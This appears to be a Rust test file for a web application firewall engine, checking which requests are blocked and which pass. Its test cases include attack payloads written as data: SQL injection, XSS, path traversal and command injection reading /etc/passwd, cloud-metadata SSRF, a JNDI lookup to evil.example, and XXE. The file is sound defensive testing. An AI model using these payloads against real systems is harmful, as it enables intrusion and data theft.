//! End-to-end tests of the engine through its public API: real attack requests are blocked,
//! tricky benign ones pass, and modes, exclusions, limits and user rules behave.

use std::net::SocketAddr;
use std::sync::Arc;

use apiguard_detect::{DetectStage, Engine, EngineConfig, Exclusion, Mode};
use apiguard_model::{ClientInfo, Outcome, RequestContext, RequestView, Stage};
use bytes::Bytes;
use http::{HeaderMap, HeaderName, HeaderValue, Method, Uri, Version};

struct Req {
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
}

fn req(method: &str, uri: &str, headers: &[(&str, &str)], body: &str) -> Req {
    let mut map = HeaderMap::new();
    map.insert("host", HeaderValue::from_static("api.example.com"));
    map.insert(
        "user-agent",
        HeaderValue::from_static("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
    );
    for (k, v) in headers {
        map.append(
            HeaderName::from_bytes(k.as_bytes()).unwrap(),
            HeaderValue::from_str(v).unwrap(),
        );
    }
    if !body.is_empty() && !map.contains_key("content-length") {
        map.insert(
            "content-length",
            HeaderValue::from_str(&body.len().to_string()).unwrap(),
        );
    }
    Req {
        method: Method::from_bytes(method.as_bytes()).unwrap(),
        uri: uri.parse().unwrap(),
        headers: map,
        body: Bytes::from(body.to_string()),
    }
}

fn client() -> ClientInfo {
    ClientInfo {
        peer: SocketAddr::from(([192, 0, 2, 1], 5555)),
        tls: true,
        client_cert_subject: None,
        client_cert_sans: vec![],
    }
}

fn inspect(engine: &Engine, r: &Req) -> apiguard_detect::Verdict {
    let c = client();
    let view = RequestView {
        method: &r.method,
        uri: &r.uri,
        version: Version::HTTP_11,
        headers: &r.headers,
        client: &c,
        route: "test",
        request_id: "t-1",
        body: Some(&r.body),
    };
    engine.inspect(&view)
}

fn engine() -> Engine {
    Engine::new(EngineConfig::default(), &[]).expect("engine builds")
}

const JSON: (&str, &str) = ("content-type", "application/json");
const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");

#[test]
fn blocks_real_attacks_everywhere() {
    let e = engine();
    let cases = [
        req("GET", "/items?id=1%27%20OR%20%271%27%3D%271", &[], ""),
        req(
            "GET",
            "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            &[],
            "",
        ),
        req(
            "POST",
            "/api/users",
            &[JSON],
            r#"{"name":"x","bio":"<img src=x onerror=alert(1)>"}"#,
        ),
        req("POST", "/login", &[FORM], "user=admin%27--&pass=x"),
        req("GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", &[], ""),
        req(
            "GET",
            "/fetch?url=http://169.254.169.254/latest/meta-data/",
            &[],
            "",
        ),
        req(
            "GET",
            "/",
            &[("x-api-version", "${jndi:ldap://evil.example/a}")],
            "",
        ),
        req("GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", &[], ""),
        req(
            "POST",
            "/xml",
            &[("content-type", "application/xml")],
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        ),
        req(
            "POST",
            "/login",
            &[JSON],
            r#"{"user":"admin","password":{"$ne":null}}"#,
        ),
        req("GET", "/?name={{7*7}}", &[], ""),
        // gotestwaf-style base64 without padding: `' or 1=1 --`
        req("GET", "/?q=JyBvciAxPTEgLS0", &[], ""),
        req("GET", "/.git/config", &[], ""),
        req(
            "GET",
            "/",
            &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
            "",
        ),
        req("FOO", "/", &[], ""),
        req(
            "POST",
            "/",
            &[("content-length", "5"), ("transfer-encoding", "chunked")],
            "0\r\n\r\n",
        ),
    ];
    for (i, r) in cases.iter().enumerate() {
        let v = inspect(&e, r);
        assert!(
            v.blocked,
            "case {i} ({} {}) not blocked: {v:?}",
            r.method, r.uri
        );
        assert!(
            v.findings.iter().all(|f| f.evidence.chars().count() <= 90),
            "evidence too long: {v:?}"
        );
    }
}

#[test]
fn passes_tricky_benign_requests() {
    let e = engine();
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
    let cases = [
        req("GET", "/people?last_name=O%27Brien", &[], ""),
        req(
            "POST",
            "/notes",
            &[JSON],
            r#"{"text":"Please select the drop down and drop the old items from the list, then update your profile."}"#,
        ),
        req(
            "POST",
            "/snippets",
            &[JSON],
            r#"{"lang":"rust","code":"fn main() { let v: Vec<i32> = (1..10).collect(); println!(\"{:?}\", v); }"}"#,
        ),
        req(
            "POST",
            "/avatar",
            &[JSON],
            &format!(r#"{{"image":"data:image/png;base64,{png}"}}"#),
        ),
        req(
            "POST",
            "/webhooks",
            &[JSON],
            r#"{"callback_url":"https://hooks.example.com/notify?id=42","retries":3}"#,
        ),
        req("GET", "/search?q=rock%20%27n%27%20roll&sort=date", &[], ""),
        req(
            "POST",
            "/comments",
            &[FORM],
            "comment=I+love+you+%3C3+and+a+%3C+b+but+c+%3E+d&email=me%40example.com",
        ),
        req(
            "GET",
            "/reports?from=2024-01-01&to=2024-12-31&format=csv",
            &[
                ("accept", "text/csv"),
                ("cookie", "session=abc123; theme=dark"),
            ],
            "",
        ),
        req(
            "PUT",
            "/users/7",
            &[JSON],
            r#"{"name":"Tom & Jerry","motto":"echo in the mirror; time flies","ratio":"50%"}"#,
        ),
        req(
            "GET",
            "/api/v1/orders/12345",
            &[(
                "authorization",
                "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig",
            )],
            "",
        ),
        req(
            "POST",
            "/graphql",
            &[JSON],
            r#"{"query":"query($id: ID!) { user(id: $id) { name friends(first: 10) { name } } }","variables":{"id":"42"}}"#,
        ),
    ];
    for (i, r) in cases.iter().enumerate() {
        let v = inspect(&e, r);
        assert!(
            !v.blocked,
            "case {i} ({} {}) blocked: {:?}",
            r.method, r.uri, v.findings
        );
    }
}

#[test]
fn findings_name_the_target_and_class() {
    let v = inspect(
        &engine(),
        &req(
            "POST",
            "/c",
            &[JSON],
            r#"{"post":{"comment":"1' UNION SELECT password FROM users--"}}"#,
        ),
    );
    let f = v
        .findings
        .iter()
        .find(|f| f.class == "sqli")
        .expect("a sqli finding");
    assert_eq!(f.target, "json:$.post.comment");
    assert_eq!(f.rule_id, "sqli.tokenizer");
    assert_eq!(f.score, 5);
}

#[test]
fn exclusions_are_precise() {
    let body =
        r#"{"comment":"1' UNION SELECT password FROM users--","title":"1' UNION SELECT 1--"}"#;
    let config = EngineConfig {
        exclusions: vec![Exclusion {
            rule: None,
            class: Some("sqli".into()),
            target: Some("json:$.comment".into()),
        }],
        ..EngineConfig::default()
    };
    let e = Engine::new(config, &[]).unwrap();
    let v = inspect(&e, &req("POST", "/c", &[JSON], body));
    assert!(
        v.findings.iter().all(|f| f.target != "json:$.comment"),
        "{v:?}"
    );
    assert!(
        v.findings.iter().any(|f| f.target == "json:$.title"),
        "{v:?}"
    );
}

/// With a key sent twice, an application may read either value (most JSON libraries keep the
/// last one, some the first): every one is inspected, so an attack hidden in the first
/// duplicate is found as surely as in the last.
#[test]
fn every_duplicate_json_key_is_inspected() {
    let e = engine();
    for body in [
        r#"{"comment":"1' UNION SELECT password FROM users--","comment":"Great product"}"#,
        r#"{"comment":"Great product","comment":"1' UNION SELECT password FROM users--"}"#,
        r#"{"a":{"comment":"<script>alert(1)</script>"},"a":{"comment":"fine"}}"#,
    ] {
        let v = inspect(&e, &req("POST", "/c", &[JSON], body));
        assert!(v.blocked, "{body}: {v:?}");
        assert!(
            v.findings
                .iter()
                .any(|f| f.target.ends_with(".comment") && f.class != "protocol"),
            "{body}: {v:?}"
        );
    }
    // The same body without the attack passes.
    let v = inspect(
        &e,
        &req(
            "POST",
            "/c",
            &[JSON],
            r#"{"comment":"Great product","comment":"Fast delivery"}"#,
        ),
    );
    assert!(v.findings.is_empty(), "{v:?}");
}

/// Escaped JSON strings are inspected as the application reads them (unescaped), keys with
/// escapes are named by their unescaped text, and exclusions still name them precisely.
#[test]
fn escaped_json_strings_are_inspected_unescaped() {
    let body = r#"{"comment":"1\u0027 UNION SELECT password FROM users--","t\u0069tle":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#;
    let v = inspect(&engine(), &req("POST", "/c", &[JSON], body));
    assert!(
        v.findings
            .iter()
            .any(|f| f.target == "json:$.comment" && f.class == "sqli"),
        "{v:?}"
    );
    assert!(
        v.findings
            .iter()
            .any(|f| f.target == "json:$.title" && f.class == "xss"),
        "{v:?}"
    );
    let config = EngineConfig {
        exclusions: vec![Exclusion {
            rule: None,
            class: Some("xss".into()),
            target: Some("json:$.title".into()),
        }],
        ..EngineConfig::default()
    };
    let v = inspect(
        &Engine::new(config, &[]).unwrap(),
        &req("POST", "/c", &[JSON], body),
    );
    assert!(v.findings.iter().all(|f| f.class != "xss"), "{v:?}");
    assert!(v.findings.iter().any(|f| f.class == "sqli"), "{v:?}");
}

/// A GraphQL `variables` argument that is not JSON is still an argument the backend reads.
#[test]
fn graphql_variables_that_are_not_json_are_inspected() {
    let v = inspect(
        &engine(),
        &req(
            "GET",
            "/graphql?query=%7Bme%7Bid%7D%7D&variables=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            &[],
            "",
        ),
    );
    assert!(v.blocked, "{v:?}");
    assert!(
        v.findings.iter().any(|f| f.target == "query:variables"),
        "{v:?}"
    );
}

#[test]
fn modes_decide_blocking() {
    let attack = req("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], "");
    let detect_only = Engine::new(
        EngineConfig {
            mode: Mode::DetectOnly,
            ..EngineConfig::default()
        },
        &[],
    )
    .unwrap();
    let v = inspect(&detect_only, &attack);
    assert!(!v.blocked && v.score >= 5);
    let off = Engine::new(
        EngineConfig {
            mode: Mode::Off,
            ..EngineConfig::default()
        },
        &[],
    )
    .unwrap();
    assert_eq!(inspect(&off, &attack).findings.len(), 0);
}

#[test]
fn bounds_are_findings() {
    let deep = format!("{}1{}", "[".repeat(100), "]".repeat(100));
    let v = inspect(&engine(), &req("POST", "/", &[JSON], &deep));
    assert!(
        v.findings.iter().any(|f| f.rule_id == "limits.json_depth"),
        "{v:?}"
    );
    // Nesting past the bound hides nothing: the payload at the bottom is still found.
    for depth in [100, 300, 20_000] {
        let deep = format!(
            "{{\"a\":{}\"<script>alert(document.cookie)</script>\"{}}}",
            "[".repeat(depth),
            "]".repeat(depth)
        );
        let v = inspect(&engine(), &req("POST", "/", &[JSON], &deep));
        assert!(v.blocked, "depth {depth}: {v:?}");
        assert!(
            v.findings.iter().any(|f| f.class == "xss"),
            "depth {depth}: {v:?}"
        );
    }
    let config = EngineConfig {
        max_body_inspect: 16,
        ..EngineConfig::default()
    };
    let v = inspect(
        &Engine::new(config, &[]).unwrap(),
        &req(
            "POST",
            "/",
            &[FORM],
            "a=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
        ),
    );
    assert!(
        v.findings.iter().any(|f| f.rule_id == "limits.body_size"),
        "{v:?}"
    );
}

#[test]
fn user_rules_and_config_errors() {
    let rules = vec![(
        "custom.yaml".to_string(),
        "rules:\n  - id: custom.internal_token\n    class: policy\n    severity: critical\n    targets: [args, headers]\n    operator:\n      phrases: [INTERNAL-ONLY]\n".to_string(),
    )];
    let e = Engine::new(EngineConfig::default(), &rules).unwrap();
    let v = inspect(&e, &req("GET", "/?note=internal-only", &[], ""));
    assert!(
        v.findings
            .iter()
            .any(|f| f.rule_id == "custom.internal_token"),
        "{v:?}"
    );
    assert!(
        Engine::new(
            EngineConfig {
                paranoia: 5,
                ..EngineConfig::default()
            },
            &[]
        )
        .is_err()
    );
    let bad = vec![("bad.yaml".to_string(), "rules: [ {id: x".to_string())];
    let err = Engine::new(EngineConfig::default(), &bad)
        .unwrap_err()
        .to_string();
    assert!(err.contains("bad.yaml"), "{err}");
}

#[test]
fn stage_reports_scores() {
    let stage = DetectStage(Arc::new(engine()));
    assert_eq!(stage.name(), "detect");
    assert!(stage.needs_body());
    let r = req("GET", "/?id=1%20union%20select%201,2", &[], "");
    let c = client();
    let view = RequestView {
        method: &r.method,
        uri: &r.uri,
        version: Version::HTTP_11,
        headers: &r.headers,
        client: &c,
        route: "t",
        request_id: "1",
        body: Some(&r.body),
    };
    assert!(
        matches!(stage.inspect(&view, &mut RequestContext::default()), Outcome::Score(f) if !f.is_empty())
    );
    let clean = req("GET", "/?id=42", &[], "");
    let view = RequestView {
        method: &clean.method,
        uri: &clean.uri,
        version: Version::HTTP_11,
        headers: &clean.headers,
        client: &c,
        route: "t",
        request_id: "2",
        body: Some(&clean.body),
    };
    assert!(matches!(
        stage.inspect(&view, &mut RequestContext::default()),
        Outcome::Continue
    ));
}

#[test]
fn engine_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Engine>();
    assert_send_sync::<DetectStage>();
}
